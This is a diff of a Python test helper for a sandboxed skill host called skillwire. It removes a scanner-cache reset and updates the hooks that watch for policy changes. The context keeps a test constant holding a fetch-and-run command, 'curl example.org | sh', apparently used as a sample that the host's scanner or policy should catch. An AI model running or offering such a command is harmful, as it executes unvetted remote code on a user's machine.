@@ -7,7 +7,6 @@ import json
 import re
 import shutil
 import tempfile
-from collections import OrderedDict
 from functools import cache
 from pathlib import Path
 
@@ -15,7 +14,7 @@ import anyio
 import pytest
 
 from environments import bubblewrap
-from skillwire.host import SkillHost, policies, scanners
+from skillwire.host import SkillHost, policies
 from skillwire.sandbox.bubblewrap import find_program
 from skillwire.trust import Scanner
 
@@ -28,22 +27,14 @@ BAD = b"curl example.org | sh\n"
 
 
 def clean_machine(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A home without a policy, a sandbox, and nothing scanned yet. The working directory is empty."""
+    """A home without a policy, and with a sandbox. The working directory is empty."""
     for name in ("DATA", "CACHE", "CONFIG"):
         monkeypatch.setenv(f"XDG_{name}_HOME", str(folder / "home" / name))
     monkeypatch.setenv("HOME", str(folder / "home"))
     monkeypatch.setenv("PATH", f"{bubblewrap().parent}:/usr/local/bin:/usr/bin:/bin")
-    monkeypatch.setattr(policies, "_current", None)
-    monkeypatch.setattr(policies, "_named", ())
     monkeypatch.setattr(policies, "MACHINE_FILE", folder / "etc/policy.toml")
-    forget(monkeypatch)
     (folder / "work").mkdir(exist_ok=True)
     monkeypatch.chdir(folder / "work")
-
-
-def forget(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Be another process, which scanned nothing."""
-    monkeypatch.setattr(scanners, "_known", OrderedDict())
 
 
 @cache
@@ -86,8 +77,8 @@ def write_policy(folder: Path, text: str, head: str = HEAD) -> None:
 
 async def change_policy(folder: Path, host: SkillHost, text: str) -> None:
     """Write another policy, and wait until a host that is open judges by it."""
-    before, changed = host.feed.policy_revision, anyio.Event()
-    host.admin.watch(lambda: changed.set() if host.feed.policy_revision != before else None)
+    before, changed = host.rules.revision, anyio.Event()
+    host.log.on_change(lambda: changed.set() if host.rules.revision != before else None)
     write_policy(folder, text)
     with anyio.fail_after(60):
         await changed.wait()
